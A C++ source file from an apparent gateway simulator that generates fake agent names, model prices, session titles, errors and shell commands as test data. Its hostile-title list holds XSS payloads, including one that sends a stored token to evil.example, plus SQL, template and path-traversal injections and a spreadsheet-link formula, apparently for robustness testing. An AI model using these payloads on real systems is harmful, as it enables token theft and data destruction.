#include "gateway_sim/world/names.h"

#include <array>
#include <string_view>

namespace cc::sim {
namespace {

constexpr std::array<std::array<const char*, 3>, 24> kAgents{{
    {"main", "Main", "🦞"},       {"otto", "Otto", "🐙"},       {"scout", "Scout", "🔭"},
    {"mira", "Mira", "🌿"},       {"ledger", "Ledger", "📒"},   {"patch", "Patch", "🩹"},
    {"harbor", "Harbor", "⚓"},   {"quill", "Quill", "🪶"},     {"relay", "Relay", "📡"},
    {"sable", "Sable", "🐈"},     {"tinker", "Tinker", "🔧"},   {"vesper", "Vesper", "🌙"},
    {"atlas", "Atlas", "🗺️"},     {"bramble", "Bramble", "🌱"}, {"cinder", "Cinder", "🔥"},
    {"delta", "Delta", "🌊"},     {"ember", "Ember", "🕯️"},     {"flint", "Flint", "🪨"},
    {"gale", "Gale", "💨"},       {"heron", "Heron", "🪺"},     {"iris", "Iris", "👁️"},
    {"juniper", "Juniper", "🌲"}, {"kestrel", "Kestrel", "🦅"}, {"lumen", "Lumen", "💡"},
}};

constexpr std::array<ModelName, 5> kModels{{
    {"anthropic", "claude-sonnet-4-5", 3, 15},
    {"openai", "gpt-5.2", 1.75, 14},
    {"google", "gemini-3-pro", 2, 12},
    {"anthropic", "claude-haiku-4-5", 1, 5},
    {"ollama", "qwen3-coder", 0, 0},
}};

constexpr std::array kTitles{
    "Nightly dependency audit",
    "Reply to the landlord about the heating",
    "Refactor the invoice importer",
    "Summarise this week's support mail",
    "Find the leak in the worker",
    "Plan the trip to Ljubljana",
    "Rotate the staging certificates",
    "Compare three quotes for the roof",
    "Draft the release notes",
    "Watch the price of copper",
    "Clean up stale branches",
    "Translate the contract to German",
    "Why is the build red?",
    "Book a table for six on Friday",
    "Migrate notes to Markdown",
    "Check backups and report",
    "Prepare the quarterly figures",
    "Label the new photos",
    "Explain the failing query",
    "Water plan for the greenhouse",
    "Sort the inbox",
    "Review pull request 482",
    "Measure the page load again",
    "Collect papers on tide models",
};

constexpr std::array<std::string_view, 16> kHostile{
    "<script>alert('title')</script>",
    "\"><img src=x onerror=alert(document.cookie)>",
    "<svg/onload=fetch('//evil.example/'+localStorage.token)>",
    "javascript:alert(1)//\\';alert(2)//",
    "</script><style>*{display:none}</style>",
    "{{constructor.constructor('alert(1)')()}} ${7*7} #{7*7}",
    "'; DROP TABLE sessions; --",
    "\xE2\x80\xAEtxt.exe gnp.\xE2\x80\xAC reversed",
    "مرحبا بالعالم — שלום עולם — mixed with English",
    "👩‍👩‍👧‍👦🏳️‍🌈👨🏽‍🚀 "
    "e\xCC\x81\xCC\x81\xCC\x81\xCC\x81\xCC\x81 "
    "Z\xCC\xB6\xCC\xA1\xCC\xA8\xCC\xA7"
    "a\xCC\xB7\xCC\xA2l\xCC\xB8\xCC\xA7g\xCC\xB4o",
    "line one\nline two\r\n\ttabbed \x07 bell \x1b[31mred\x1b[0m",
    "two\xE2\x80\xA8separators\xE2\x80\xA9here\xC2\x85"
    "and\xE2\x80\x8Bzero\xE2\x80\x8Dwidth\xEF\xBB\xBF",
    "data: {\"seq\":1}\n\nevent: reset\nid: forged",
    "../../../../etc/passwd %2e%2e%2f %00",
    "=HYPERLINK(\"http://evil.example\",\"open\")",
    "ﷺ𒐫𒈙꧅ 𝕲𝖔𝖙𝖍𝖎𝖈",
};

constexpr std::array<std::string_view, 12> kAnswer{
    "I looked",       " at the latest",   " entries first,", " then at what",
    " changed since", " yesterday.",      " Two of them",    " need attention;",
    " the rest",      " is as expected.", " I will write",   " a short report.",
};

constexpr std::array kErrors{
    "LLM request failed: provider rejected the request schema or tool payload.",
    "The provider answered 529: overloaded. Please try again later.",
    "Context window exceeded: 201344 tokens of 200000.",
    "Authentication with the provider failed: the key was revoked.",
};

constexpr std::array kCommands{
    "git push origin main",          "rm -rf build/cache",          "systemctl restart worker",
    "terraform apply -auto-approve", "npm publish --access public",
};

}  // namespace

AgentName agent_name(std::size_t place) {
  const auto& [id, name, emoji] = kAgents[place % kAgents.size()];
  const std::size_t round = place / kAgents.size();
  if (round == 0) return {id, name, emoji};
  const std::string number = std::to_string(round + 1);
  return {std::string(id) + '-' + number, std::string(name) + ' ' + number, emoji};
}

const ModelName& model_name(Rng& rng) {
  return rng.pick(kModels);
}

const ModelName& model_called(const std::string& model) {
  for (const ModelName& known : kModels) {
    if (model == known.model) return known;
  }
  return kModels.back();
}

std::string session_title(Rng& rng) {
  return rng.pick(kTitles);
}

std::string hostile_title(Rng& rng) {
  const std::string_view title = rng.pick(kHostile);
  const std::size_t times = rng.chance(10) ? 6000 / title.size() + 1 : 1;
  std::string out;
  for (std::size_t i = 0; i < times; ++i) out.append(title).append(i + 1 < times ? " " : "");
  return out;
}

std::string_view answer_piece(std::size_t place) {
  return kAnswer[place % kAnswer.size()];
}

std::string error_text(Rng& rng) {
  return rng.pick(kErrors);
}

std::string shell_command(Rng& rng) {
  return rng.pick(kCommands);
}

}  // namespace cc::sim
